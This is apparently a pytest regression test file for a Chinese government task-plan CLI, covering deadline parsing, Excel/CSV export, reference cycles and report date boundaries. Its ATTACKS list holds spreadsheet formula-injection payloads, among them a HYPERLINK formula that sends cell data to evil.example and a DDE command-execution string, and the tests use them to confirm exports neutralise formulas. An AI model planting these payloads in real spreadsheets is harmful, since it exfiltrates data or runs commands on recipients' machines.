"""Regression tests for the bugs a review found (issue 11) and for the rules that mutations
of the logic showed untested: each fails on the code before its fix."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest

from conftest import FIXTURES, Run, write_plan


def test_import_year_reaches_the_deadline_check(run: Run, tmp_path: Path) -> None:
    """A table saying 7月下旬 imports with --year 2020 (it failed with 缺少年份)."""
    source = tmp_path / "t.txt"
    text = (FIXTURES / "seed.txt").read_text(encoding="utf-8").replace("2020年7月下旬", "7月下旬")
    source.write_text(text, encoding="utf-8")
    out = tmp_path / "p.yaml"
    result = run("import", str(source), "-o", str(out), "--year", "2020")
    assert result.exit_code == 0, result.output
    data = json.loads(run("list", "-f", str(out), "--today", "2020-08-01", "--format", "json").stdout)
    first = next(t for t in data if t["deadline"] == "7月下旬")
    assert (first["due_start"], first["due_end"]) == ("2020-07-21", "2020-07-31")


def test_import_without_year_still_names_the_missing_year(run: Run, tmp_path: Path) -> None:
    source = tmp_path / "t.txt"
    text = (FIXTURES / "seed.txt").read_text(encoding="utf-8").replace("2020年7月下旬", "7月下旬")
    source.write_text(text, encoding="utf-8")
    result = run("import", str(source), "-o", str(tmp_path / "t.yaml"))
    # Kept as written, with no fixed date until a year is known, and the row named (issue 22).
    assert result.exit_code == 0, result.output
    assert "完成时间“7月下旬”无法识别（缺少年份" in result.stderr and "暂按没有固定日期跟踪" in result.stderr
    assert "deadline: 7月下旬" in (tmp_path / "t.yaml").read_text(encoding="utf-8")


def test_import_names_an_excel_file_as_such(run: Run, tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    from openpyxl import Workbook

    book = tmp_path / "plan.txt"  # a workbook under a text file's name
    Workbook().save(book)
    result = run("import", str(book))
    assert result.exit_code == 4
    assert "Office 文档" in result.stderr and "UTF-8" not in result.stderr
    real = tmp_path / "plan.xlsx"  # under its own name it is read as a workbook
    Workbook().save(real)
    result = run("import", str(real))
    assert result.exit_code == 4 and "Excel 表格中没有找到表格的表头" in result.stderr


def _xlsx_plan(tmp_path: Path, title: str, unit: str = "区司法局") -> Path:
    return write_plan(tmp_path / "p.yaml", [{"id": 1, "title": title, "responsible": [unit]}])


@pytest.mark.parametrize("odd", ["①", "²", "١٢"])
def test_xlsx_export_of_digit_like_text(run: Run, tmp_path: Path, odd: str) -> None:
    """Cells such as ① or ² are text (isdigit() is true for them, int() fails)."""
    openpyxl = pytest.importorskip("openpyxl")
    plan = _xlsx_plan(tmp_path, odd)
    result = run("export", str(tmp_path / "x.xlsx"), "-f", str(plan), "--today", "2020-08-01")
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["任务"]
    assert sheet["C2"].value == odd and sheet["A2"].value == 1


ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)"]
# Test ids without quotes: the mutation tool passes test ids through a shell.
ATTACK_IDS = ["hyperlink", "dde", "plus", "at"]


@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACK_IDS)
def test_xlsx_cells_are_never_formulas(run: Run, tmp_path: Path, attack: str) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    plan = _xlsx_plan(tmp_path, attack, unit=attack)
    result = run("export", str(tmp_path / "x.xlsx"), "-f", str(plan), "--today", "2020-08-01")
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == attack]
    assert {c.parent.title for c in cells} == {"任务", "单位进度"}  # title and unit, both sheets
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("attack", [*ATTACKS, "-2"], ids=[*ATTACK_IDS, "minus"])
def test_csv_cells_are_never_formulas(run: Run, tmp_path: Path, attack: str) -> None:
    plan = _xlsx_plan(tmp_path, attack)
    stdout = run("list", "-f", str(plan), "--today", "2020-08-01", "--format", "csv").stdout
    exported = tmp_path / "x.csv"
    run("export", str(exported), "-f", str(plan), "--today", "2020-08-01")
    for text in (stdout, exported.read_text(encoding="utf-8-sig")):
        cell = next(r for r in csv.DictReader(io.StringIO(text)))["title"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))  # never a formula
        assert cell in (f"'{attack}", attack.replace("\t", "\\t"))  # the text itself, made safe


def test_csv_cell_text_for_tab_and_cr() -> None:
    from zwgk_cli.render.safe import cell_text

    assert cell_text("\t=1") == "'\t=1" and cell_text("\r=1") == "'\r=1" and cell_text("甲") == "甲"


def test_csv_quotes_commas_quotes_and_line_breaks(run: Run, tmp_path: Path) -> None:
    """A cell with a comma, a quote or a line break reads back as one cell."""
    title, note = '甲，乙,丙 "丁"', "第一行\n第二行"
    plan = write_plan(tmp_path / "p.yaml", [{"id": 1, "title": title, "note": note}])
    text = run("list", "-f", str(plan), "--today", "2020-08-01", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1 and rows[0]["title"] == title and rows[0]["note"] == note


@pytest.mark.parametrize("columns", ["abc", "", "-5", "0", "99999999999999999999"])
def test_odd_columns_variable_is_ignored(run: Run, plan: Path, columns: str) -> None:
    result = run("list", "-f", str(plan), "--today", "2020-08-01", env={"COLUMNS": columns})
    assert result.exit_code == 0, result.output
    assert "任务 25 项" in result.stdout


def test_bad_env_today_is_blamed_on_the_variable(run: Run, plan: Path) -> None:
    result = run("list", "-f", str(plan), env={"ZWGK_TODAY": "2020-13-01"})
    assert result.exit_code == 2
    assert "环境变量 ZWGK_TODAY" in result.stderr and "--today" not in result.stderr


def test_today_option_wins_over_the_variable(run: Run, plan: Path) -> None:
    args = ("overdue", "-f", str(plan), "--format", "json")
    data = json.loads(run(*args, "--today", "2020-07-31", env={"ZWGK_TODAY": "2020-08-01"}).stdout)
    assert [t["id"] for t in data] == [10, 25]
    data = json.loads(run(*args, env={"ZWGK_TODAY": "2020-08-01"}).stdout)
    assert len(data) == 10


def test_a_reference_cycle_is_reported_once(run: Run, tmp_path: Path) -> None:
    plan = write_plan(
        tmp_path / "p.yaml",
        [
            {"id": 1, "supervising": ["同（2）"]},
            {"id": 2, "supervising": ["同（3）"]},
            {"id": 3, "supervising": ["同（1）"]},
            {"id": 4, "supervising": ["同（9）"]},
            {"id": 5, "supervising": ["同（4）"]},
        ],
    )
    result = run("check", str(plan))
    assert result.exit_code == 4
    assert result.stderr.count("循环引用") == 1
    assert "（1 → 2 → 3 → 1）" in result.stderr
    assert result.stderr.count("没有任务 9") == 1  # reached from tasks 4 and 5, reported once


def test_references_are_followed_to_the_end(run: Run, tmp_path: Path) -> None:
    plan = write_plan(
        tmp_path / "p.yaml",
        [
            {"id": 1, "supervising": ["区财政局"]},
            {"id": 2, "supervising": ["区教育局", "同（1）"]},
            {"id": 3, "supervising": ["同（2）"]},
        ],
    )
    data = json.loads(run("show", "3", "-f", str(plan), "--format", "json").stdout)
    assert data["supervising"] == ["区教育局", "区财政局"]


def _report(run: Run, plan: Path, today: str, *extra: str) -> dict[str, dict[str, object]]:
    result = run("report", "-f", str(plan), "--today", today, "--format", "json", *extra)
    assert result.exit_code == 0, result.output
    return {line["name"]: line for line in json.loads(result.stdout)}


def test_report_overdue_starts_the_day_after_the_deadline(run: Run, tmp_path: Path) -> None:
    plan = write_plan(tmp_path / "p.yaml", [{"id": 1, "deadline": "2020年7月31日"}])
    assert _report(run, plan, "2020-07-31")["合计"]["overdue"] == 0
    assert _report(run, plan, "2020-08-01")["合计"]["overdue"] == 1


def test_report_done_on_the_last_day_is_on_time(run: Run, tmp_path: Path) -> None:
    tasks = [
        {"id": 1, "deadline": "2020年7月31日", "status": "done", "done_on": "2020-07-31"},
        {"id": 2, "deadline": "2020年7月31日", "status": "done", "done_on": "2020-08-01"},
    ]
    total = _report(run, write_plan(tmp_path / "p.yaml", tasks), "2020-08-02")["合计"]
    assert (total["done_on_time"], total["done_late"]) == (1, 1)


@pytest.mark.parametrize(("ends", "soon"), [("2020年7月8日", 1), ("2020年7月9日", 0)])
def test_report_due_soon_window_includes_its_last_day(run: Run, tmp_path: Path, ends: str, soon: int) -> None:
    plan = write_plan(tmp_path / "p.yaml", [{"id": 1, "deadline": ends}])
    assert _report(run, plan, "2020-07-01", "--soon", "7")["合计"]["due_soon"] == soon


@pytest.mark.parametrize(("within", "ids"), [("7", [1]), ("8", [1, 2]), ("6", [])])
def test_due_within_includes_its_last_day(run: Run, tmp_path: Path, within: str, ids: list[int]) -> None:
    plan = write_plan(
        tmp_path / "p.yaml", [{"id": 1, "deadline": "2020年7月8日"}, {"id": 2, "deadline": "2020年7月9日"}]
    )
    args = ("due", "-f", str(plan), "--today", "2020-07-01", "--within", within, "--format", "json")
    assert [t["id"] for t in json.loads(run(*args).stdout)] == ids


def test_timeline_soon_state_boundary() -> None:
    from zwgk_cli.dates.deadlines import DueRange
    from zwgk_cli.plan.model import Item, Task
    from zwgk_cli.render.timeline import state_of

    def item(end: date) -> Item:
        task = Task(1, "类", "题", ("甲",), ("乙",), "x")
        return Item(
            task, DueRange(date(2020, 7, 1), end), {"responsible": ("甲",), "supervising": ("乙",)}, ("甲",)
        )

    today = date(2020, 7, 1)
    assert state_of(item(date(2020, 7, 8)), today, 7) == "soon"
    assert state_of(item(date(2020, 7, 9)), today, 7) == "open"
    assert state_of(item(date(2020, 6, 30)), today, 7) == "overdue"
    assert state_of(item(date(2020, 7, 1)), today, 7) == "soon"


def test_a_plan_without_registry_still_reports_its_units(run: Run, tmp_path: Path) -> None:
    plan = write_plan(
        tmp_path / "p.yaml",
        [{"id": 1, "responsible": ["办公室", "各科室"]}, {"id": 2, "responsible": ["办公室"]}],
    )
    units = json.loads(run("units", "-f", str(plan), "--today", "2020-08-01", "--format", "json").stdout)
    assert {u["name"]: (u["kind"], u["responsible"]) for u in units} == {
        "办公室": ("未登记", 2),
        "各科室": ("未登记", 1),
        "区政府办公室": ("未登记", 0),
    }
    lines = _report(run, plan, "2020-08-01")
    assert lines["办公室"]["overdue"] == 2 and lines["各科室"]["overdue"] == 1


@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACK_IDS)
def test_feedback_forms_hold_no_formulas(run: Run, tmp_path: Path, attack: str) -> None:
    """Issue 23.10: plan text starting with = went into the forms sent to units as live formulas,
    in the rows and in the identity sheet (the plan's title)."""
    openpyxl = pytest.importorskip("openpyxl")
    plan = write_plan(tmp_path / "p.yaml", [{"id": 1, "title": attack}], title=attack)
    out = tmp_path / "发出"
    result = run(
        "export", "--feedback", "-u", "区司法局", "-o", str(out), "-f", str(plan), "--today", "2020-08-01"
    )
    assert result.exit_code == 0, result.output
    (form,) = out.glob("*.xlsx")
    book = openpyxl.load_workbook(form)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == attack]
    assert len({c.parent.title for c in cells}) == 2  # the rows and the identity sheet
    assert all(c.data_type == "s" for c in cells)
